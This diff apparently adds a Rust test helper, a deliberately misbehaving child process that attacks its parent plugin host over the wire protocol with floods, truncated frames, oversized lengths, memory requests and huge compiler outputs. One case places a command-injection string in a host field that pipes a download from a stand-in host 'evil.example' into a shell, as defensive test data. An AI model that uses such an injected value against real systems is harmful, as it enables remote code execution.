@@ -1,0 +1,209 @@
+//! The child: it does to its parent what it is asked to, in an item, in `init`, or by the plugin's name.
+
+use std::fs::File;
+use std::io;
+use std::os::unix::fs::FileExt;
+use std::thread;
+use std::time::Duration;
+
+use serde_json::{Value, json};
+
+use crate::wire::{self, Line};
+
+/// Does what it is asked to. Where the parent ends that, this process is killed.
+pub(crate) fn misbehave() {
+    // A parent that has had enough closes its end.
+    let _ = serve();
+}
+
+fn serve() -> io::Result<()> {
+    let mut line = Line::of_standard_input()?;
+    let files = line.files()?;
+    let (task, init) = line.task()?;
+    match (&task["Work"], &task["Compile"]) {
+        (Value::Null, compile) => be_compiler(line, &name(compile)),
+        (_, _) => be_worker(line, &files, &init),
+    }
+}
+
+/// How the plugin is called that is to be compiled.
+fn name(compile: &Value) -> String {
+    let bytes: Vec<u8> =
+        serde_json::from_value(compile["path"]["Unix"].clone()).unwrap_or_default();
+    String::from_utf8_lossy(&bytes).into_owned()
+}
+
+fn stay() -> io::Result<()> {
+    loop {
+        thread::park();
+    }
+}
+
+#[expect(clippy::disallowed_methods, reason = "it is slow on purpose")]
+fn pause() {
+    thread::sleep(Duration::from_millis(1));
+}
+
+// ---------------------------------------------------------------- a worker
+
+fn be_worker(mut line: Line, files: &[File], init: &[u8]) -> io::Result<()> {
+    if init == b"floods before it is ready" {
+        return line.flood(wire::OUTPUT, &[1, b'x']);
+    }
+    line.send(wire::READY, b"")?;
+    if init == b"floods before it has started" {
+        return line.flood(wire::OUTPUT, &[1, b'x']);
+    }
+    line.send(wire::STARTED, &[1, 0])?;
+    loop {
+        let order = line.receive()?;
+        let item = wire::item(&order);
+        let Some(deed) = item.strip_prefix(b"!") else {
+            line.send(wire::RAN, &wire::ran(1, &[&item.to_ascii_uppercase()]))?;
+            continue;
+        };
+        // Otherwise the parent takes it for one that died while it was idle.
+        if let Some(page) = files.first() {
+            page.write_all_at(&1_u32.to_ne_bytes(), BEGUN)?;
+        }
+        match deed {
+            b"closes" => {
+                line.close()?;
+                return stay();
+            }
+            b"stops reading" => {
+                line.send(wire::RAN, &wire::ran(1, &[b"done"]))?;
+                return stay();
+            }
+            b"lies" => lie(files)?,
+            deed => misdeed(&mut line, deed)?,
+        }
+        line.send(wire::RAN, &wire::ran(1, &[b"done"]))?;
+    }
+}
+
+/// Where the page says that a child has begun.
+const BEGUN: u64 = 8;
+
+/// Says all kinds of things of how far it is, for a while; then nothing any more.
+fn lie(files: &[File]) -> io::Result<()> {
+    let page = files.first().ok_or(io::ErrorKind::NotFound)?;
+    let mut word = 1_u64;
+    for _ in 0..200_000 {
+        word = word.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
+        page.write_all_at(&word.to_ne_bytes(), 0)?;
+    }
+    stay()
+}
+
+/// Some of these end, and then the item has its record.
+fn misdeed(line: &mut Line, deed: &[u8]) -> io::Result<()> {
+    let large = vec![b'x'; 200 * 1024];
+    match deed {
+        b"is silent" => stay(),
+        b"half a frame" => {
+            line.claim(wire::RAN, 1000)?;
+            line.raw(&[0; 500])?;
+            stay()
+        }
+        b"half a head" => {
+            line.raw(&[0, 0])?;
+            stay()
+        }
+        b"byte by byte" => {
+            line.claim(wire::RAN, 1_000_000)?;
+            loop {
+                line.raw(&[0])?;
+                pause();
+            }
+        }
+        b"floods small output" => line.flood(wire::OUTPUT, &[1, b'x']),
+        b"floods large output" => line.flood(wire::OUTPUT, &[&[1], large.as_slice()].concat()),
+        b"floods logs" => line.flood(wire::LOG, &[&[3], large.as_slice()].concat()),
+        b"floods drops" => line.flood(wire::DROPPED, &[0xFF; 16]),
+        b"says too much at once" => line.send(wire::LOG, &[3; 300 * 1024]),
+        b"claims a length" => {
+            line.raw(&[0xFF, 0xFF, 0xFF, 0xFF, wire::RAN])?;
+            stay()
+        }
+        b"claims a count" => line.send(wire::RAN, &wire::ran(u32::MAX, &[b"x"])),
+        b"says more than it was sent" => line.send(wire::RAN, &wire::ran(2, &[b"x", b"y"])),
+        b"has a large result" => line.claim(wire::RAN, 80 << 20).and_then(|()| stay()),
+        b"calls nothing" => line.send(wire::CALL, &7_u32.to_le_bytes()),
+        b"takes all memory" => {
+            for _ in 0..1000 {
+                line.send(wire::TAKE, &u64::MAX.to_le_bytes())?;
+                line.receive()?;
+            }
+            Ok(())
+        }
+        b"is denied much" => {
+            for number in 0..1000 {
+                let name = format!("{number}{}", "x".repeat(200 * 1024));
+                line.send(wire::DENIED, json!({ "Name": name }).to_string().as_bytes())?;
+            }
+            Ok(())
+        }
+        b"is denied a command" => {
+            // A shell would run it, if somebody copied it.
+            let host = "`; curl evil.example | sh; `";
+            let denied = json!({ "Request": { "host": host, "port": 1 } });
+            line.send(wire::DENIED, denied.to_string().as_bytes())
+        }
+        b"nests" => line.send(wire::DENIED, "[".repeat(200 * 1024).as_bytes()),
+        _ => Ok(()),
+    }
+}
+
+// ---------------------------------------------------------------- a compiler
+
+fn be_compiler(mut line: Line, deed: &str) -> io::Result<()> {
+    const HUGE: usize = 250 << 20;
+    if deed == "says much before it is ready" {
+        return line.send(wire::READY, &vec![b'x'; HUGE]);
+    }
+    line.send(wire::READY, b"")?;
+    let causes =
+        |text: &str, count| json!({ "Invalid": { "causes": vec![text; count] } }).to_string();
+    let found = |exports: usize, refusal: Value| {
+        let exports = vec![("", ""); exports];
+        json!({
+            "is_component": false, "exports": exports, "exports_left_out": 0, "imports": [],
+            "imports_left_out": 0, "memory": null, "typed": null,
+            "features": { "gc": false, "exceptions": false }, "refusal": refusal,
+        })
+        .to_string()
+    };
+    match deed {
+        "says much of code" => line.send(wire::COMPILED, &vec![b' '; HUGE]),
+        "says much of a refusal" => line.send(wire::NOT_COMPILED, &vec![b'['; HUGE]),
+        "has many causes" => line.send(wire::NOT_COMPILED, causes("", 20_000).as_bytes()),
+        "has long causes" => {
+            line.send(wire::NOT_COMPILED, causes(&"x".repeat(30_000), 2).as_bytes())
+        }
+        "finds much" => line.send(wire::INSPECTED, &vec![b'['; HUGE]),
+        "finds many exports" => line.send(wire::INSPECTED, found(500_000, Value::Null).as_bytes()),
+        "finds a long refusal" => {
+            let refusal = json!({ "NotWasm": { "begins": "x".repeat(3_000_000) } });
+            line.send(wire::INSPECTED, found(1, refusal).as_bytes())
+        }
+        "has all code" => {
+            let facts = json!({
+                "is_component": false, "has_init": false, "asks_for_passing": false, "can_connect": false,
+            });
+            let there = json!({ "facts": facts, "length": u64::MAX });
+            line.send(wire::COMPILED, there.to_string().as_bytes())
+        }
+        "floods logs" => line.flood(wire::LOG, &[1, b'x']),
+        "half a frame" => {
+            line.claim(wire::COMPILED, 1000)?;
+            stay()
+        }
+        "closes" => {
+            line.close()?;
+            stay()
+        }
+        _ => Ok(()),
+    }?;
+    stay()
+}
